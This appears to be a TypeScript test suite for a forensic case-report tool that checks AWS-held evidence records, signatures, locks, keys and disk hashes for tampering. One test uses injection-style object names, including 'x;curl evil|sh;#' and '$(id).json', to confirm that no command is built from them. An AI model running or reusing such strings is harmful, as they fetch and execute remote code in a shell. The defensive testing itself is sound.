import assert from "node:assert/strict";
import { generateKeyPairSync } from "node:crypto";

import type { CaseFacts, ObjectVersion } from "../../../cli/report/caseFacts";
import { caseOf } from "../../../cli/report/caseOf";
import { CASE_REPORT, type Check } from "../../../cli/report/caseReport";
import { recordFile } from "../../../components/evidence/records/custodyRecord";
import { Case } from "../../../components/case";
import { sha256 } from "../../../components/sha256";
import { TICKET } from "../../support/examples";
import {
  ASKED,
  ATTACHED,
  CLOSING,
  COPY,
  DESTRUCTION,
  DISK_HASH,
  EVIDENCE,
  EVIDENCE_KEY,
  factsOf,
  INCIDENT_KEY,
  intake,
  kept,
  LATER_KEY,
  minute,
  object,
  OPENING,
  PRESERVED,
  SOURCE,
  withObjects,
} from "./reportedCase";

const OTHER_HASH = "0".repeat(64);

/** The one check that something is wrong with, and what it says; the others have to be sound. */
function wrong(facts: CaseFacts, id: Check["id"], ...others: readonly Check["id"][]): string {
  const report = CASE_REPORT.parse(caseOf(facts));
  assert.equal(report.verdict, "wrong");
  assert.deepEqual(
    report.checks.filter(({ verdict }) => verdict === "wrong").map((check) => check.id),
    [id, ...others],
  );
  const { findings } = report.checks.find((check) => check.id === id) as Check;
  findings
    .filter(({ verdict }) => verdict === "wrong")
    .forEach(({ said, sources }) =>
      assert.ok(sources.length > 0, `${said} can be followed nowhere`),
    );
  return findings.map(({ said }) => said).join("\n");
}

/** What could not be verified, where nothing is wrong. */
function unverified(facts: CaseFacts, id: Check["id"], ...others: readonly Check["id"][]): string {
  const report = CASE_REPORT.parse(caseOf(facts));
  assert.equal(report.verdict, "unverified");
  assert.deepEqual(
    report.checks.filter(({ verdict }) => verdict !== "sound").map((check) => check.id),
    [id, ...others],
  );
  return (report.checks.find((check) => check.id === id)?.findings ?? [])
    .map(({ said }) => said)
    .join("\n");
}

describe("the report of a case", () => {
  it("of one that is as it has to be says so, of every check and of every record and disk", () => {
    const report = CASE_REPORT.parse(caseOf(factsOf()));
    assert.deepEqual(
      report.checks.filter(({ verdict }) => verdict !== "sound"),
      [],
    );
    assert.equal(report.verdict, "sound");
    assert.deepEqual([...new Set(report.records.map(({ verdict }) => verdict))], ["sound"]);
    assert.deepEqual(
      report.disks.map(({ snapshot, verdict }) => [snapshot, verdict]),
      [[SOURCE, "sound"]],
    );
  });

  it("is the same of the same facts", () => {
    assert.deepEqual(caseOf(factsOf()), caseOf(factsOf()));
  });

  it("gives every time by the clock of who says it, in order", () => {
    const { timeline } = caseOf(factsOf());
    assert.deepEqual(
      timeline.map(({ clock, said }) => [clock, said.split(" ").slice(0, 3).join(" ")]),
      [
        ["claim", "the moment that"],
        ["S3", "the room was"],
        ["CloudTrail", "PutObject of " + OPENING.key],
        ["EC2", `the copy ${COPY}`],
        ["CloudTrail", `CopySnapshot of ${COPY}`],
        ["S3", `${SOURCE} of 222233334444`],
        ["S3", "vol-0123456789abcdef0, made of"],
        ["workstation", "hashing of vol-0123456789abcdef0"],
        ["workstation", "hashing of vol-0123456789abcdef0"],
        [
          "S3",
          `cases/${TICKET}/intake/i-0123456789abcdef0/vol-0123456789abcdef0.json was written,`,
        ],
        ["Systems Manager", "a session on"],
        ["S3", `cases/${TICKET}/timeline.csv was written,`],
        ["Systems Manager", "a session on"],
        ["S3", "the room was"],
        ["S3", "the deletion of"],
      ],
    );
    assert.deepEqual(
      timeline.map(({ at }) => at),
      timeline.map(({ at }) => at).sort(),
    );
  });

  it("gives every claim a source, by object version, snapshot or event", () => {
    const { timeline, records, people, remains, disks } = caseOf(factsOf());
    for (const { said, sources } of timeline) {
      assert.ok(sources.length > 0, said);
    }
    for (const { who, sources } of people) {
      assert.ok(sources.length > 0, who);
    }
    for (const { what, sources } of [...remains, ...disks.flatMap(({ steps }) => steps)]) {
      assert.ok(sources.length > 0, what);
    }
    for (const { source } of records) {
      assert.ok(source.version, source.id);
    }
  });

  it("has the runbook that signs once among the people, however often it was started", () => {
    const [event] = factsOf().events;
    const signed = (session: string, name: string, refused?: string) => ({
      ...(event as CaseFacts["events"][number]),
      id: `${session} ${name}`,
      who: `arn:aws:sts::111122223333:assumed-role/clean-room-record-signer-us-east-1/${session}`,
      name,
      about: new Case(TICKET).signatureOf(OPENING.key),
      refused,
    });
    const before = caseOf(factsOf());
    const { people, timeline } = caseOf(
      factsOf({
        events: [
          ...factsOf().events,
          signed("Automation-1", "PutObject"),
          signed("Automation-2", "PutObject", "PreconditionFailed"),
          signed("Automation-3", "PutObject"),
          signed("Automation-4", "DeleteObject", "AccessDenied"),
        ],
      }),
    );
    assert.deepEqual(
      people.slice(before.people.length).map(({ who, did }) => [who, did]),
      [
        [
          "arn:aws:sts::111122223333:assumed-role/clean-room-record-signer-us-east-1",
          ["PutObject", "DeleteObject, refused"],
        ],
      ],
    );
    // Each is told as it was, in its time.
    assert.equal(timeline.length, before.timeline.length + 4);
  });

  describe("tells on its first screen of", () => {
    it("a changed byte", () => {
      const facts = withObjects((versions) =>
        versions.map((each) =>
          each.key === PRESERVED.key
            ? { ...each, bytes: Buffer.from(PRESERVED.content.replace("8", "9")) }
            : each,
        ),
      );
      // What it said is not relied on, so that what hangs on it hangs in the air.
      assert.match(wrong(facts, "bytes", "signatures", "missing"), /a byte was changed/);
    });

    it("a byte that no text has", () => {
      const facts = withObjects((versions) =>
        versions.map((each) =>
          each.key === ATTACHED.key && each.bytes
            ? { ...each, bytes: Buffer.concat([each.bytes, Buffer.from([0xff])]) }
            : each,
        ),
      );
      assert.match(wrong(facts, "bytes", "signatures"), /a byte was changed/);
    });

    it("a second version of a record with other bytes", () => {
      const facts = withObjects((versions) => [...versions, object(OPENING.key, "{}", 200)]);
      assert.match(wrong(facts, "bytes", "signatures"), /a byte was changed/);
    });

    it("a record in another case's words, under its own hash", () => {
      const file = recordFile("evidence", "INC-2026-0099", EVIDENCE);
      const key = file.key.replace("INC-2026-0099", TICKET);
      const facts = withObjects((versions) => [...versions, ...kept({ ...file, key }, 7)]);
      assert.match(wrong(facts, "forms"), /a record of INC-2026-0099/);
    });

    it("a record that the program would not write, under its own hash", () => {
      const ofCase = new Case(TICKET);
      for (const content of [
        "no JSON",
        PRESERVED.content.replace('"ownerCompared": true', '"ownerCompared": false'),
        JSON.stringify(JSON.parse(PRESERVED.content)),
      ]) {
        // Its name is right: only what it says is not.
        const file = { key: ofCase.record(sha256(content)), content, metadata: {} };
        const facts = withObjects((versions) => [...versions, ...kept(file, 7)]);
        assert.match(wrong(facts, "forms"), /in no form of a record|not spelled/);
      }
    });

    it("a forged record that is signed by another key, or not at all", () => {
      const forged = recordFile("evidence", TICKET, {
        ...EVIDENCE,
        claimed: { ...EVIDENCE.claimed, sourceInstance: "i-0aaaaaaaaaaaaaaaa" },
      });
      const { privateKey } = generateKeyPairSync("ec", { namedCurve: "P-256" });
      const facts = withObjects((versions) => [...versions, ...kept(forged, 7, privateKey)]);
      assert.match(wrong(facts, "signatures"), /not of these bytes by this key/);
      const unsigned = withObjects((versions) => [
        ...versions,
        ...kept(forged, 7).filter(({ key }) => key === forged.key),
      ]);
      assert.match(
        unverified(unsigned, "signatures"),
        /^It is unsigned\. An administrator of the account has it signed, as it is there now: aws ssm start-automation-execution --region us-east-1 --document-name clean-room-sign-record --parameters Key=records\/\S+\.json$/,
      );
    });

    it("an unsigned object whose name is not its hash, without a command: somebody else chose its name", () => {
      const { records } = new Case(TICKET);
      for (const name of ["x;curl evil|sh;#", "$(id).json", `${"0".repeat(64)}.json`]) {
        const facts = withObjects((versions) => [...versions, object(records + name, "{}", 7)]);
        wrong(facts, "bytes");
        const report = caseOf(facts);
        const said = report.checks.find(({ id }) => id === "signatures")?.findings ?? [];
        assert.deepEqual(
          said.map((each) => each.said),
          ["It is unsigned."],
        );
        assert.doesNotMatch(JSON.stringify(report), /start-automation-execution/);
      }
    });

    it("a signature of other bytes that says it is by the foundation's key, or does not say by which", () => {
      for (const signedBy of [factsOf().signingKey?.arn, undefined]) {
        const facts = withObjects((versions) =>
          versions.map((each) =>
            each.key.startsWith("signatures/")
              ? { ...each, bytes: Buffer.from("0"), signedBy }
              : each,
          ),
        );
        assert.match(wrong(facts, "signatures"), /not of these bytes by this key/);
      }
    });

    it("a forged record of a copy that EC2 does not have so", () => {
      const forged = (preserved: Partial<typeof EVIDENCE.preserved>) =>
        withObjects((versions) => [
          ...versions,
          ...kept(
            recordFile("evidence", TICKET, {
              ...EVIDENCE,
              preserved: { ...EVIDENCE.preserved, ...preserved },
            }),
            7,
          ),
        ]);
      assert.match(wrong(forged({ sizeGiB: 9 }), "copies"), /has 8 GiB; its record says 9 GiB/);
      assert.match(
        wrong(forged({ key: INCIDENT_KEY }), "copies", "keys"),
        /is under .*record says/,
      );
      assert.match(
        wrong(forged({ snapshot: "snap-0aaaaaaaaaaaaaaaa" }), "copies"),
        /EC2 has no such snapshot[\s\S]*one of them is forged/,
      );
    });

    it("a missing record, however it is known: by another record, a signature, a marker, the trail, a copy", () => {
      const without = (gone: string) =>
        withObjects((versions) => versions.filter(({ key }) => key !== gone));
      const alone = (gone: { readonly key: string }) =>
        withObjects((versions) => versions.filter(({ key }) => !key.includes(idOf(gone.key))));
      assert.match(wrong(alone(ATTACHED), "missing"), new RegExp(`${ATTACHED.key} is not in the`));
      assert.match(wrong(alone(CLOSING), "missing"), new RegExp(`${CLOSING.key} is not in the`));
      assert.match(
        wrong(alone(PRESERVED), "missing"),
        /is a preserved copy of .*no record of that/,
      );
      assert.match(wrong(without(DESTRUCTION.key), "missing"), /A record was signed that is not/);
      assert.match(wrong(alone(OPENING), "missing"), /the trail says that \S+ wrote it/);
      const hidden = { ...object(DESTRUCTION.key, "", 300), hides: true, bytes: undefined };
      assert.match(
        wrong(
          withObjects((versions) => [...versions, hidden]),
          "missing",
        ),
        /hidden by a marker of deletion/,
      );
      const nothing = factsOf({ versions: [], events: [], snapshots: [], locks: [] });
      assert.match(
        caseOf(nothing)
          .checks.map(({ findings }) => findings.map(({ said }) => said))
          .join(),
        /has no record of INC-2026-0042/,
      );
    });

    it("a record that is younger than what names it", () => {
      const facts = withObjects((versions) =>
        versions.map((each) =>
          each.key === ATTACHED.key ? { ...each, written: minute(92) } : each,
        ),
      );
      assert.match(wrong(facts, "order"), /was written after/);
    });

    it("a record that was written again, as one: that is what a room that is as before does", () => {
      const again = object(OPENING.key, OPENING.content, 99);
      const { verdict, records } = caseOf(withObjects((versions) => [...versions, again]));
      assert.equal(verdict, "sound");
      assert.equal(records.filter(({ source }) => source.id === OPENING.key).length, 1);
    });

    it("a lock that has expired, or is not there", () => {
      const until = new Date(ASKED.getTime() - 1);
      for (const locks of [
        [{ snapshot: COPY, state: "compliance", until }],
        [{ snapshot: COPY, state: "expired", until }],
        [],
      ]) {
        assert.match(wrong(factsOf({ locks }), "locks"), /has expired|is not locked/);
      }
      const retained = withObjects((versions) =>
        versions.map((each) =>
          each.key === OPENING.key ? { ...each, held: false, retainedUntil: until } : each,
        ),
      );
      assert.match(wrong(retained, "locks"), /retention has expired/);
    });

    it("no lock of one that a legal hold keeps", () => {
      const held = withObjects((versions) =>
        versions.map((each) => ({ ...each, held: true, retainedUntil: minute(0) })),
      );
      assert.equal(caseOf(held).verdict, "sound");
    });

    it("a hash of a disk that differs from the member account's, or from another of the same disk", () => {
      const hashed = (hash: string) =>
        withObjects((versions) =>
          versions.map((each) =>
            each.key.includes("/intake/") ? { ...each, bytes: Buffer.from(intake(hash)) } : each,
          ),
        );
      assert.match(wrong(hashed(OTHER_HASH), "hashes"), /the member account took/);
      const second = withObjects((versions) => [
        ...versions,
        object(
          new Case(TICKET).diskHash("i-0bbbbbbbbbbbbbbbb", "vol-0123456789abcdef0"),
          intake(OTHER_HASH, { instanceId: "i-0bbbbbbbbbbbbbbbb" }),
          70,
        ),
      ]);
      assert.match(wrong(second, "hashes"), /there are 2 hashes that differ/);
    });

    it("a result whose hash differs from S3's, or that a manifest lists and the vault has otherwise", () => {
      const changed = withObjects((versions) =>
        versions.map((each) =>
          each.key.endsWith("timeline.csv") ? { ...each, claimedSha256: OTHER_HASH } : each,
        ),
      );
      assert.match(wrong(changed, "hashes"), /as S3 took it; who wrote it says/);
      const manifest = (files: object[]) =>
        object(
          `cases/${TICKET}/manifest-1.json`,
          JSON.stringify({ form: "clean-room/manifest/1", files }),
          61,
        );
      const lost = { key: `cases/${TICKET}/gone.csv`, versionId: "v", checksum: "c" };
      assert.match(
        wrong(
          withObjects((versions) => [...versions, manifest([lost])]),
          "hashes",
        ),
        /which a manifest lists, is not in the vault/,
      );
      const result = factsOf().versions.find(({ key }) => key.endsWith("timeline.csv"));
      const listed = {
        key: result?.key,
        versionId: result?.version,
        sha256: result?.claimedSha256,
        checksum: result?.s3Sha256,
      };
      const listing = (...files: object[]) =>
        withObjects((versions) => [...versions, manifest(files)]);
      assert.equal(caseOf(listing(listed)).verdict, "sound");
      assert.match(
        wrong(listing({ ...listed, sha256: OTHER_HASH }), "hashes"),
        /which a manifest lists, has the SHA-256 as its writer says [0-9a-f]{64}, and not 0{64}/,
      );
      assert.match(
        wrong(listing({ ...listed, checksum: "c" }), "hashes"),
        /has the checksum as S3 took it .*, and not c/,
      );
      assert.match(
        unverified(listing({ ...listed, sha256: undefined }), "hashes"),
        /has no SHA-256 as its writer says on both sides/,
      );
    });

    describe("a live acquisition", () => {
      const second = "20261120T040100Z";
      const prefix = `intake/222233334444/${TICKET}/live/i-0a0b0c0d0e0f0a0b0/${second}/`;
      const put = (name: string, bytes: string, more: Partial<ObjectVersion> = {}) =>
        object(`${prefix}${name}`, bytes, 30, { claimedSha256: undefined, ...more });
      // A report reads no part of a memory.
      const part = put("memory/00001", "memory", { bytes: undefined, s3Sha256: undefined });
      const state = put("state.tar.gz", "state");
      const listed = (each: ObjectVersion, bytes: string) => ({
        key: each.key,
        size: each.size,
        sha256: sha256(bytes),
        md5: "",
        versionId: each.version,
        answer: 200,
      });
      const manifestOf = (...files: object[]) =>
        put(
          "manifest.json",
          JSON.stringify({ form: "clean-room/acquisition/1", prefix, state: "complete", files }),
        );
      const manifest = manifestOf(listed(part, "memory"), listed(state, "state"));
      const recordOf = (pinned: ObjectVersion) =>
        recordFile("acquisition", TICKET, {
          recordedBy: "arn:aws:sts::111122223333:assumed-role/incident-deployer/jo",
          program: { version: "0.1.0", policyPackVersion: "0.1.0" },
          source: {
            account: "222233334444",
            region: "us-east-1",
            instance: "i-0a0b0c0d0e0f0a0b0",
          },
          acquired: "all",
          complete: true,
          document: { name: "clean-room-acquire", version: "1", sha256: OTHER_HASH },
          tools: { avml: OTHER_HASH, busybox: OTHER_HASH },
          command: "c-1",
          status: "Success",
          begun: minute(1).toISOString(),
          ended: minute(29).toISOString(),
          prefix,
          memory: { parts: 1, bytes: 6, sha256: sha256("memory") },
          state: sha256("state"),
          manifest: sha256(pinned.bytes ?? ""),
        });
      const record = recordOf(manifest);
      const all = [part, state, manifest];
      const withThese = (...objects: readonly ObjectVersion[]) =>
        withObjects((versions) => [...versions, ...objects]);

      it("is sound where the vault has what its record and the machine's manifest say, and stands in the time line with who recorded it", () => {
        const report = caseOf(withThese(...kept(record, 35), ...all));
        assert.equal(report.verdict, "sound", JSON.stringify(report.checks));
        const said = report.timeline.map((moment) => moment.said).join("\n");
        assert.match(
          said,
          /memory and state of 222233334444\/us-east-1\/i-0a\w+ were acquired to intake/,
        );
        assert.match(said, /the acquisition of i-0a\w+ began[^]*the acquisition of i-0a\w+ ended/);
        assert.ok(report.people.some(({ did }) => did.includes("had a live acquisition recorded")));
      });

      it("has the state of a Windows compared as well, which is packed otherwise", () => {
        const zip = put("state.zip", "state");
        const of = (packed: ObjectVersion) =>
          withThese(...kept(recordOf(windows), 35), part, packed, windows);
        const windows = manifestOf(listed(part, "memory"), listed(zip, "state"));
        assert.equal(caseOf(of(zip)).verdict, "sound");
        assert.match(
          wrong(of({ ...zip, bytes: Buffer.from("stale") }), "hashes"),
          /state\.zip has the SHA-256 .* its record says/,
        );
      });

      it("is told of where a byte was changed: of its manifest, of its state, of the memory by size and version", () => {
        const of = (change: (each: ObjectVersion) => ObjectVersion) =>
          wrong(withThese(...kept(record, 35), ...all.map(change)), "hashes");
        const changed = (name: string, to: Partial<ObjectVersion>) => (each: ObjectVersion) =>
          each.key.endsWith(name) ? { ...each, ...to } : each;
        assert.match(
          of(changed("manifest.json", { bytes: Buffer.from("{}") })),
          /manifest\.json has the SHA-256 [0-9a-f]{64}, and its record says/,
        );
        assert.match(
          of(changed("state.tar.gz", { bytes: Buffer.from("stale") })),
          /state\.tar\.gz has the SHA-256 .* its record says[^]*the machine's manifest says/,
        );
        assert.match(of(changed("00001", { size: 7 })), /00001 has 7 bytes, .* says 6/);
        assert.match(
          of(changed("00001", { version: "another" })),
          /00001 is there as version another and not as v-/,
        );
        assert.match(
          wrong(withThese(...kept(record, 35), state, manifest), "hashes"),
          /memory\/00001, which a machine's manifest lists, is not in the vault/,
        );
        assert.match(
          wrong(withThese(...kept(record, 35), part, state), "hashes"),
          /manifest\.json, which its record names, is not in the vault/,
        );
      });

      it("is told of where its record is forged: a changed byte, another key, another's manifest", () => {
        const [file, signature] = kept(record, 35);
        const forged = Buffer.from(record.content.replace('"complete": true', '"complete": false'));
        const bytes = { ...(file as ObjectVersion), bytes: forged };
        assert.match(
          wrong(withThese(bytes, signature as ObjectVersion, ...all), "bytes", "signatures"),
          /a byte was changed/,
        );
        const { privateKey } = generateKeyPairSync("ec", { namedCurve: "P-256" });
        wrong(withThese(...kept(record, 35, privateKey), ...all), "signatures");
        const other = recordOf(manifestOf());
        assert.match(
          wrong(withThese(...kept(other, 35), ...all), "hashes"),
          /manifest\.json has the SHA-256/,
        );
      });

      it("is unverified where nobody recorded it", () => {
        assert.match(
          unverified(withThese(...all), "hashes"),
          /is what a machine was acquired to, and no record says so/,
        );
      });
    });

    it("a version that the trail says was written, and that is not there, though its name is", () => {
      const [event] = factsOf().events;
      const written = (version: string | undefined, at = minute(0)) =>
        factsOf({ events: [{ ...(event as CaseFacts["events"][number]), version, at }] });
      assert.match(
        wrong(written("v-gone"), "missing"),
        /^Version v-gone of records\/\S+ is not in the vault, and the trail says that \S+ wrote it/,
      );
      const there = factsOf().versions.find(({ key }) => key === OPENING.key)?.version;
      assert.equal(caseOf(written(there)).verdict, "sound");
      // What was written after the vault was listed.
      assert.equal(caseOf(written("v-new", new Date(ASKED.getTime() + 1))).verdict, "sound");
    });

    it("a key that is not as it has to be", () => {
      const keys = (evidence: string, incident: string) => [
        { arn: EVIDENCE_KEY, state: evidence },
        { arn: INCIDENT_KEY, state: incident },
      ];
      assert.match(
        wrong(factsOf({ keys: keys("PendingDeletion", "gone") }), "keys"),
        /nothing that is kept under it can be read/,
      );
      assert.match(
        wrong(factsOf({ keys: keys("Enabled", "Enabled") }), "keys"),
        /somebody cancelled that/,
      );
    });
  });

  it("says nothing against an open room whose copy is under way, and against a key in the day that KMS has", () => {
    const { snapshots, keys } = factsOf();
    const underWay = factsOf({
      snapshots: snapshots.map((each) => ({ ...each, state: "pending" })),
      locks: [],
    });
    assert.match(unverified(underWay, "copies"), /is pending, and not completed/);
    const pending = keys.map((key) =>
      key.arn === INCIDENT_KEY ? { ...key, state: "PendingDeletion" } : key,
    );
    const soon = new Date("2026-11-28T12:00:00Z");
    assert.equal(caseOf(factsOf({ keys: pending, askedAt: soon })).verdict, "sound");
    assert.match(wrong(factsOf({ keys: pending }), "keys"), /somebody cancelled that/);
  });

  describe("tells what could not be verified, and why", () => {
    it("what a record that is not read may say", () => {
      const content = JSON.stringify({ form: "clean-room/record/1", ticket: TICKET });
      const old = { key: new Case(TICKET).record(sha256(content)), content, metadata: {} };
      const facts = withObjects(
        (versions) => [
          ...versions.filter(({ key }) =>
            [ATTACHED, CLOSING, DESTRUCTION, PRESERVED].every(
              (file) => !key.includes(idOf(file.key)),
            ),
          ),
          ...kept(old, 1),
        ],
        { keys: [] },
      );
      const { checks, verdict } = caseOf(facts);
      assert.equal(verdict, "unverified");
      assert.match(
        JSON.stringify(checks.find(({ id }) => id === "missing")),
        /there is no record of that/,
      );
    });

    it("what was not read", () => {
      const unread = [{ what: "The trail", why: "AWS denies it to these credentials.", opens: [] }];
      assert.match(unverified(factsOf({ unread }), "reading"), /^The trail: AWS denies it/);
    });

    it("no lock that was not looked up is said to be missing", () => {
      const unread = [
        { what: "The locks of snapshots", why: "AWS denies it.", opens: ["locks" as const] },
      ];
      assert.match(
        unverified(factsOf({ unread, locks: [] }), "locks", "reading"),
        /locks of snapshots/,
      );
      assert.match(
        wrong(factsOf({ unread, locks: [], snapshots: [] }), "copies"),
        /EC2 has no such snapshot/,
      );
    });

    it("no key that KMS did not tell of passes for what it has to be", () => {
      const [evidenceKey, incidentKey] = factsOf().keys;
      for (const keys of [[], [evidenceKey], [incidentKey]]) {
        assert.match(
          unverified(factsOf({ keys: keys.flatMap((key) => key ?? []) }), "keys"),
          /^KMS did not tell of arn:/,
        );
      }
    });

    it("nothing of a record of whose signatures one is its own, whichever S3 lists first", () => {
      const signature = new Case(TICKET).signatureOf(PRESERVED.key);
      const other = { ...object(signature, "0", 6), signedBy: factsOf().signingKey?.arn };
      assert.equal(caseOf(withObjects((versions) => [other, ...versions])).verdict, "sound");
      assert.equal(caseOf(withObjects((versions) => [...versions, other])).verdict, "sound");
    });

    it("a report that was stored before: it is left until then, and no result", () => {
      const stored = object(`${new Case(TICKET).reports}${OTHER_HASH}.html`, "a page", 100);
      const report = caseOf(withObjects((versions) => [...versions, stored]));
      assert.equal(report.verdict, "sound");
      assert.equal(report.results.length, caseOf(factsOf()).results.length);
      assert.deepEqual(
        report.remains.filter(({ what }) => /reports|uploaded/.test(what)).map(({ what }) => what),
        ["1 versions of reports"],
      );
    });

    it("no copy that is otherwise than its record, though others were not looked up", () => {
      const { snapshots } = factsOf();
      const unread = [
        { what: "The snapshots that carry the ticket", why: "AWS denies it.", opens: [] },
      ];
      const larger = snapshots.map((each) => ({ ...each, sizeGiB: 9 }));
      assert.match(wrong(factsOf({ unread, snapshots: larger }), "copies"), /has 9 GiB/);
      assert.match(
        unverified(factsOf({ unread, snapshots: [] }), "copies", "reading"),
        /EC2 has no such snapshot/,
      );
    });

    it("a case that is signed by another key than the foundation's of today", () => {
      const facts = factsOf({ signingKey: LATER_KEY });
      assert.equal(
        unverified(facts, "signatures"),
        `5 records: It is signed by ${factsOf().signingKey?.arn}, which is not the foundation's key of today, and none of before that it names: it takes that key's public half to verify it.`,
      );
    });

    it("no fault of what an earlier key of the foundation signed, but by which and since when", () => {
      const since = minute(200);
      const earlierSigningKeys = [{ ...(factsOf().signingKey ?? LATER_KEY), since: minute(-99) }];
      const facts = factsOf({ signingKey: { ...LATER_KEY, since }, earlierSigningKeys });
      const report = CASE_REPORT.parse(caseOf(facts));
      assert.equal(report.verdict, "sound");
      const { said = "" } = report.checks.find(({ id }) => id === "signatures") ?? {};
      assert.equal(
        said,
        `Verified with ${LATER_KEY.arn}, the signing key since ${since.toISOString()}. 5 with an earlier key of the foundation, ${factsOf().signingKey?.arn}, made ${minute(-99).toISOString()}.`,
      );
      assert.deepEqual(
        [...new Set(report.records.map(({ signature }) => signature?.verifiedBy))],
        [factsOf().signingKey?.arn],
      );
      // Bytes that were changed are wrong by whichever key.
      const changed = facts.versions.map((each) =>
        each.key === new Case(TICKET).signatureOf(OPENING.key)
          ? { ...each, bytes: Buffer.from("0") }
          : each,
      );
      assert.match(wrong({ ...facts, versions: changed }, "signatures"), /not of these bytes/);
    });

    it("what an earlier key signed once another had taken its place", () => {
      const earlierSigningKeys = [factsOf().signingKey ?? LATER_KEY];
      const signingKey = { ...LATER_KEY, since: minute(4) };
      const facts = factsOf({ signingKey, earlierSigningKeys });
      const late = facts.versions.map((each) =>
        each.key === new Case(TICKET).signatureOf(PRESERVED.key)
          ? { ...each, written: minute(65) }
          : each,
      );
      const said = unverified({ ...facts, versions: late }, "signatures");
      assert.match(said, new RegExp(`${PRESERVED.key} was signed by .* had taken its place`));
    });

    it("a record that was signed more than an hour after it was written, and when each was signed", () => {
      const signedAt = (minutes: number) =>
        withObjects((versions) =>
          versions.map((each) =>
            each.key === new Case(TICKET).signatureOf(PRESERVED.key)
              ? { ...each, written: minute(5 + minutes) }
              : each,
          ),
        );
      const soon = caseOf(signedAt(60));
      assert.equal(soon.verdict, "sound");
      assert.deepEqual(soon.records.find(({ source }) => source.id === PRESERVED.key)?.signature, {
        put: minute(65).toISOString(),
        by: soon.signingKey?.arn,
      });
      assert.equal(
        unverified(signedAt(61 + 120), "order"),
        `${PRESERVED.key} was signed 3 h after it was written: its signature does not say that it had these bytes until then.`,
      );
    });

    it("of a record with several versions which one is to be signed", () => {
      const signature = new Case(TICKET).signatureOf(PRESERVED.key);
      const again = object(PRESERVED.key, PRESERVED.content, 20);
      const facts = withObjects((versions) => [
        again,
        ...versions.filter(({ key }) => key !== signature),
      ]);
      const [first] = factsOf().versions.filter(({ key }) => key === PRESERVED.key);
      assert.ok(
        unverified(facts, "signatures").endsWith(
          `--parameters Key=${PRESERVED.key},VersionId='${first?.version}'`,
        ),
      );
    });

    it("an unsigned case, in one sentence", () => {
      const facts = withObjects(
        (versions) => versions.filter(({ key }) => !key.startsWith("signatures/")),
        { signingKey: undefined },
      );
      assert.equal(unverified(facts, "signatures"), "5 records: It is unsigned.");
    });

    it("a disk that was looked at before its hash was known, or that could not be read whole", () => {
      const told = (more: object) =>
        unverified(
          withObjects((versions) =>
            versions.map((each) =>
              each.key.includes("/intake/")
                ? { ...each, bytes: Buffer.from(intake(DISK_HASH, more)) }
                : each,
            ),
          ),
          "hashes",
        );
      const looks = [{ at: "2026-11-20T04:20:00Z", user: "jane.doe", action: "mount" }];
      assert.match(told({ lookedAtBefore: looks }), /^jane\.doe looked at/);
      assert.match(told({ lookedAtBefore: null }), /does not tell who looked/);
      assert.match(told({ unreadableBytes: 512 }), /512 bytes of \S+ could not be read/);
    });

    it("a list of objects that somebody deleted: the trail does not say of which", () => {
      const [event] = factsOf().events;
      const deletion = {
        ...(event as CaseFacts["events"][number]),
        name: "DeleteObjects",
        about: "vault-bucket-0a1b2c3",
      };
      const facts = factsOf({ events: [...factsOf().events, deletion] });
      assert.match(
        unverified(facts, "missing"),
        /\/jo asked for DeleteObjects in vault-bucket-0a1b2c3, 2026-11-20T04:00:00.000Z: .*not say of which/,
      );
      const refused = { ...deletion, refused: "AccessDenied" };
      assert.equal(caseOf(factsOf({ events: [...factsOf().events, refused] })).verdict, "sound");
    });

    it("nothing as missing where it may be among what was not read", () => {
      const ofCase = new Case(TICKET);
      const unlisted = (prefix: string, ids: readonly Check["id"][]) => ({
        what: `Objects below ${prefix}`,
        why: "AWS denies it.",
        opens: ids,
        below: prefix,
      });
      const verdictOf = (facts: CaseFacts) => {
        const { verdict, checks } = caseOf(facts);
        assert.equal(verdict, "unverified", JSON.stringify(checks, undefined, 1));
        return checks.find(({ id }) => id === "missing")?.verdict;
      };
      const noRecords = withObjects(
        (versions) => versions.filter(({ key }) => !key.startsWith(ofCase.records)),
        { unread: [unlisted(ofCase.records, ["missing"])], keys: [] },
      );
      assert.equal(verdictOf(noRecords), "unverified");
      const noBytes = withObjects(
        (versions) =>
          versions.map((each) =>
            each.key.startsWith(ofCase.records) ? { ...each, bytes: undefined } : each,
          ),
        { keys: [] },
      );
      assert.equal(verdictOf(noBytes), "unverified");
      assert.doesNotMatch(JSON.stringify(caseOf(noBytes).checks), /has no record of/);
      const noEvidence = withObjects((versions) =>
        versions.map((each) => (each.key === PRESERVED.key ? { ...each, bytes: undefined } : each)),
      );
      assert.equal(verdictOf(noEvidence), "unverified");
      // What hangs on what it says is open, and does not pass for sound.
      assert.deepEqual(
        caseOf(noEvidence)
          .checks.filter(({ verdict }) => verdict === "sound")
          .map(({ id }) => id),
        ["reading"],
      );
    });

    it("a signature that was not read, as that", () => {
      const facts = withObjects((versions) =>
        versions.map((each) =>
          each.key === new Case(TICKET).signatureOf(OPENING.key)
            ? { ...each, bytes: undefined }
            : each,
        ),
      );
      assert.equal(unverified(facts, "signatures"), "Its signature was not read.");
    });

    it("results of which there are no two hashes to compare, and manifests that are not read", () => {
      const result = (more: object) =>
        withObjects((versions) =>
          versions.map((each) => (each.key.endsWith("timeline.csv") ? { ...each, ...more } : each)),
        );
      assert.match(
        // Of an object in parts S3's is one of its parts'.
        unverified(
          result({ s3Sha256: `${"A".repeat(43)}=-2`, claimedSha256: OTHER_HASH }),
          "hashes",
        ),
        /timeline\.csv: S3 has no SHA-256 of the whole/,
      );
      assert.match(
        unverified(result({ claimedSha256: undefined }), "hashes"),
        /timeline\.csv: who wrote it says no SHA-256/,
      );
      for (const [bytes, words] of [
        [undefined, /manifest-1\.json: it was not read/],
        [Buffer.from("{"), /manifest-1\.json: it is no manifest that is read/],
      ] as const) {
        const manifest = object(`cases/${TICKET}/manifest-1.json`, "", 61, { bytes });
        const facts = withObjects((versions) => [...versions, manifest]);
        assert.match(unverified(facts, "hashes"), words);
      }
    });

    it("what says a disk's hash where no workstation writes it: it counts for nothing", () => {
      const ofCase = new Case(TICKET);
      const instead = (key: string, text: string, bytes?: undefined) =>
        withObjects((versions) => [
          ...versions,
          object(key, text, 70, bytes === undefined ? {} : { bytes }),
        ]);
      const forged = instead(`${ofCase.diskHashes}forged/a.json`, intake(OTHER_HASH));
      assert.match(unverified(forged, "hashes"), /forged\/a\.json .* counts for nothing/);
      const none = instead(`${ofCase.diskHashes}i-0123456789abcdef0/a.json`, "{}");
      assert.match(unverified(none, "hashes"), /is none that is read/);
      const pending = JSON.stringify({ form: "clean-room/intake-pending/1" });
      const beside = instead(`${ofCase.diskHashes}i-0123456789abcdef0/vol-0.pending.json`, pending);
